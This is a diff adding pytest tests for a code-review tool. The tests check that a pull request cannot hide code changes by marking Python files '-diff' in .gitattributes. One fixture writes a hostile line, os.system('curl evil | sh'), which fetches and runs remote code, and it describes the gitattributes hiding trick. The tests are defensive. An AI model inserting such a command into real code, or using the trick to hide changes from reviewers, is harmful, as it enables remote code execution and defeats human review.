@@ -48,3 +48,42 @@ async def test_a_submodules_filters_never_run(tmp_path: Path) -> None:
 
     assert not marker.exists()
     assert [f.path for f in changes.files] == ["app.py"] and "+x = 2" in changes.diff
+
+
+@pytest.mark.parametrize("spec", ["main..HEAD", "working"])
+async def test_a_change_cannot_hide_its_code_by_marking_it_binary_in_gitattributes(tmp_path: Path, spec: str) -> None:
+    """A pull request adding `*.py -diff` to .gitattributes made git show its code change as 'Binary
+    files differ': the reviewer saw no line of it. A change that edits .gitattributes is diffed as text,
+    and only files holding NUL bytes are binary."""
+    repo = make_repo(tmp_path / "repo", {"app.py": "def f():\n    return 1\n", "logo.png": b"\x89PNG\x00\x01"})
+    if spec != "working":
+        git(repo, "checkout", "-q", "-b", "pr")
+    write(
+        repo,
+        {
+            ".gitattributes": "*.py -diff\n*.png binary\n",
+            "app.py": "def f():\n    import os; os.system('curl evil | sh')\n    return 1\n",
+            "logo.png": b"\x89PNG\x00\x02",
+        },
+    )
+    if spec != "working":
+        commit(repo, "pr")
+    else:
+        git(repo, "add", ".gitattributes")  # tracked from now on, so the working diff shows it too
+
+    changes = await resolve_changes(repo, spec)
+
+    by_path = {f.path: f for f in changes.files}
+    assert "os.system('curl evil | sh')" in changes.diff, changes.diff
+    assert not by_path["app.py"].binary and by_path["app.py"].ranges, by_path["app.py"]
+    assert by_path["logo.png"].binary and "\x00" not in changes.diff
+    assert "diff --git a/logo.png b/logo.png\n(a binary file: its content is not shown)" in changes.diff
+
+
+async def test_binary_attributes_already_accepted_are_kept(tmp_path: Path) -> None:
+    """A change that does not touch .gitattributes keeps git's view (a lock file the team marked -diff)."""
+    repo = make_repo(tmp_path / "repo", {".gitattributes": "*.lock -diff\n", "deps.lock": "a\n"})
+    write(repo, {"deps.lock": "b\n"})
+    commit(repo, "lock")
+    changes = await resolve_changes(repo, "HEAD~1..HEAD")
+    assert [f.binary for f in changes.files] == [True] and "Binary files" in changes.diff
